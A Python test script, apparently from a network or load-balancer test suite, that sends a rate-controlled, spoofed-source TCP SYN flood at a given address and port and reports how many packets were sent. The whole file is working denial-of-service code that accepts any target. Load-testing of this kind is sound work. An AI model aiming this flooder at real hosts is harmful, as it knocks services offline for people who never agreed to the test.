#!/usr/bin/python3
"""A spoofed-source SYN flood at VIP:PORT, run in the client namespace for the half-open test.

Sends SYNs from random sources in 198.18.0.0/15 (RFC 2544's benchmark range, never a real
client's) through a raw IP socket, so the kernel routes them to the VIP like the client's own
traffic and never completes a handshake. The SYNs are built once (distinct source address and
port each, TCP checksum filled) and sent round after round at RATE per second for SECONDS; a
tuple comes back only after COUNT others, by which time its flow is long gone. Prints one JSON
line {"sent": N, "refused": R, "seconds": S} at the end (refused: sends the local kernel turned
down because the client's device queue was full).

usage: syn_flood.py VIP PORT RATE SECONDS [COUNT]
"""
import json
import random
import socket
import struct
import sys
import time

vip, port, rate, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4])
count = int(sys.argv[5]) if len(sys.argv) > 5 else 65536


def ones_sum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total


def syn(src, sport, dst):
    seq = random.getrandbits(32)
    tcp = struct.pack("!HHIIBBHHH", sport, port, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", 0xFFFF - ones_sum(pseudo + tcp)) + tcp[18:]
    # The kernel fills in the IPv4 checksum and total length of an IP_HDRINCL packet.
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0, src, dst)
    return ip + tcp


rng = random.Random(2026)
dst = socket.inet_aton(vip)
base = struct.unpack("!I", socket.inet_aton("198.18.0.0"))[0]
frames = []
for i in range(count):
    src = struct.pack("!I", base + rng.randrange(1 << 17))
    frames.append(syn(src, 1024 + i % 64000, dst))

s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
target = (vip, 0)
start = time.monotonic()
sent = refused = 0
batch = 256  # frames between two looks at the clock
while True:
    elapsed = time.monotonic() - start
    if elapsed >= seconds:
        break
    ahead = sent - elapsed * rate  # frames sent beyond the schedule
    if ahead > 0:
        time.sleep(ahead / rate)
        continue
    for _ in range(batch):
        try:
            s.sendto(frames[sent % count], target)
        except OSError:  # ENOBUFS: the device queue is full, the flood outruns the link
            refused += 1
        sent += 1
print(json.dumps({"sent": sent, "refused": refused, "seconds": round(time.monotonic() - start, 3)}))
